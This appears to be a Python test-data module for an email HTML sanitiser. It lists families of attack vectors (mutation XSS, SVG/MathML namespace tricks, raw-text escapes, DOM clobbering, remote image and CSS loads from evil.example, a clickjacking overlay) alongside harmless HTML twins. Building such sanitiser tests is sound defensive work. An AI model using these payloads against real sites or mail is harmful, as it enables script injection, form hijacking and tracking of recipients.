"""What mails try in a browser, by the families that sanitisers are tried with; all of it in our own words.

Read again by another parser, other namespaces, text that is none, names that hide those of the page, images in several
sizes, addresses in styles.  Each family has harmless twins in ``TWINS``, whose words have to be there.
"""

# ruff: noqa: E501 - a vector stands in one line

from __future__ import annotations

FIRE = "<img src=x onerror=alert(1)>"

FAMILIES: dict[str, tuple[str, ...]] = {
    "mutation": (
        f"<form><div></form><form><math><mtext></form><form><mglyph><style></math>{FIRE}",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{FIRE}'>",
        f"<svg></p><style><a id='</style>{FIRE}'>",
        f"<math></br><style><a title='</style>{FIRE}'></math>",
        f"<table><caption><svg><title><table><tr><td></title>{FIRE}</caption></table>",
        f"<svg><p><style><g title='</style>{FIRE}'>",
        f"<p>a<listing>&lt;img onerror=alert(1) src=x&gt;</listing><xmp>{FIRE}</xmp>",
        f"<noembed></p><noembed>{FIRE}</noembed>",
        f"<a title='x` onerror=alert(1) `'>a</a><img alt='``onerror=alert(1)' src=x><p title='{FIRE}'>b",
        f"<ruby><rp><rtc><style><rt title='</style>{FIRE}'></ruby>",
        "<x/><!-- ><style><b title=' --!><img src=x onerror=alert(1)>'></style>",
        f"<select><option><style></option></select>{FIRE}</style>",
        "<dl><dd><form><dt></form><form id=f><button formaction=javascript:alert(1)>click</button></dl>",
    ),
    "namespaces": (
        f"<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg><svg><title>{FIRE}</title></svg>",
        "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>click</maction></math>",
        "<math href='javascript:alert(1)'><mi>click</mi></math>",
        "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>click</text></a></svg>",
        "<svg><animate attributeName=href values='javascript:alert(1)' begin=0s></animate><a id=b><text y=9>click</text></a></svg>",
        f"<math><annotation-xml encoding='application/xhtml+xml'>{FIRE}</annotation-xml></math>",
        f"<svg><desc>{FIRE}</desc><foreignObject><math><mi><style>{FIRE}</style></mi></math></foreignObject></svg>",
        "<svg><image href='https://evil.example/a.png'/><feImage href='https://evil.example/b.png'/></svg>",
        "<svg><set attributeName=onload to=alert(1) /><handler type='text/javascript'>alert(1)</handler></svg>",
        f"<p xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></p><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>{FIRE}",
        "<svg><filter><feImage xlink:href='data:image/svg+xml,<svg onload=alert(1)>'/></filter></svg>",
        "<math><mglyph src='https://evil.example/c.png'/><ms lquote='<img src=x onerror=alert(1)>'>x</ms></math>",
    ),
    "raw text": (
        f"<noscript><p title='</noscript>{FIRE}'></noscript>",
        f"<noscript>{FIRE}</noscript><noscript><style></noscript>{FIRE}</style>",
        f"<template>{FIRE}</template><template><template><p title='</template></template>{FIRE}'></template></template>",
        f"<style>*{{color:red}}</style><style></style{FIRE}><style/>{FIRE}</style>",
        f"<style><!--</style>{FIRE}--></style><style media='</style>{FIRE}'></style>",
        f"<iframe><p title='</iframe>{FIRE}'></iframe><iframe srcdoc='{FIRE.replace('<', '&lt;')}'></iframe>",
        f"<textarea></textarea\x0c>{FIRE}<textarea>&lt;/textarea&gt;{FIRE}</textarea>",
        f"<title></title\t>{FIRE}</title><script type=text/template></script ><script>alert(1)</script>",
        f"<script><!--<script></script>{FIRE}--></script><script src='data:,alert(1)'></script>",
        f"<plaintext></plaintext>{FIRE}",
    ),
    "clobbering": (
        "<form name=body><input name=attributes><input name=parentNode></form><img name=documentElement src=x>",
        "<form id=config><input name=url value='https://evil.example/d'></form><a id=config name=url href='https://evil.example/e'>x</a>",
        "<img name=cookie src=x><img id=getElementById src=x><embed name=querySelector><object id=forms></object>",
        "<iframe name=parent></iframe><iframe name=top></iframe><a id=self href='javascript:alert(1)'>click</a>",
        "<input form=reply name=csrf value=x><button form=reply formaction='https://evil.example/f'>click</button>",
        "<label for=text>click</label><output form=reply name=text>x</output><fieldset form=reply name=kind></fieldset>",
        "<a id=__proto__ href=x>x</a><p id=constructor class='composer' data-live='https://evil.example/g'>x</p>",
        "<p id=main tabindex=0 accesskey=s aria-label='Send' role=dialog contenteditable>x</p><dialog open>x</dialog>",
    ),
    "sources": (
        "<img srcset='https://evil.example/h.png 1x, https://evil.example/i.png 2x'><img src=x srcset=' //evil.example/j 100w' sizes='(min-width:1px) 100vw'>",
        "<picture><source srcset='https://evil.example/k.webp' type='image/webp'><img src='data:,'></picture>",
        "<img imagesrcset='//evil.example/l' src='https:&#x2f;&#x2f;evil.example/m'><img src='\\\\evil.example\\n'><img src='/\\evil.example/o'>",
        "<video poster='https://evil.example/p.png' src='//evil.example/q'></video><audio><source src='//evil.example/r'></audio>",
        "<input type=image src='https://evil.example/s'><body background=//evil.example/t><td background='//evil.example/u'>x",
        "<img dynsrc=//evil.example/v lowsrc=//evil.example/w longdesc=//evil.example/x><img usemap='#m' src=x><map name=m><area href='javascript:alert(1)' coords='0,0,9,9'></map>",
        "<base href='https://evil.example/'><img src=y.png><a href='z'>x</a><link rel=stylesheet href=//evil.example/1.css>",
        "<object data='https://evil.example/2'></object><embed src='//evil.example/3'><applet code=x archive='//evil.example/4'></applet>",
        "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='https://evil.example/5'>x</q><ins cite='//evil.example/6'>x</ins>",
    ),
    "styles": (
        "<p style=\"background:u\\72l(https://evil.example/7)\">x</p><p style='background:URL( //evil.example/8 )'>x</p>",
        "<p style='background:url(&quot;https://evil.example/9&quot;)'>x</p><p style='background:/**/url(//evil.example/10)/**/'>x</p>",
        "<p style='content:url(//evil.example/11);border-image:url(//evil.example/12) 1;shape-outside:url(//evil.example/13)'>x</p>",
        "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/14#x)'>x</p>",
        "<p style='background-image:-webkit-image-set(url(//evil.example/15) 1x);filter:url(//evil.example/16#f)'>x</p>",
        "<p style='@import \"https://evil.example/17\"'>x</p><style>@import '//evil.example/18';p{background:url(//evil.example/19)}</style><p>x</p>",
        "<p style='color:red;}body{background:url(//evil.example/20)'>x</p><p style='font:1px \"x;background:url(//evil.example/21)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9;opacity:0'><a href='https://evil.example/22'>press</a></p>",
        '<p style=\'color:var(--x,url(//evil.example/23));background:src("//evil.example/24");cursor:image-set("//evil.example/25")\'>x</p>',
        "<font color='url(//evil.example/26)' face='x;background:url(//evil.example/27)'>x</font><table bgcolor='//evil.example/28'><tr><td>x",
    ),
}

TWINS = (
    "<p>Five &lt; six, and <b>bold</b></p>",
    "<table><tr><td style='color:#c00'>Oak</td><td>1,200</td></tr></table>",
    "<blockquote><p>as you wrote</p></blockquote>",
    "<ul><li>one</li><li>two</li></ul><pre>a  b</pre>",
)
"""Harmless HTML; each word in it has to be read."""
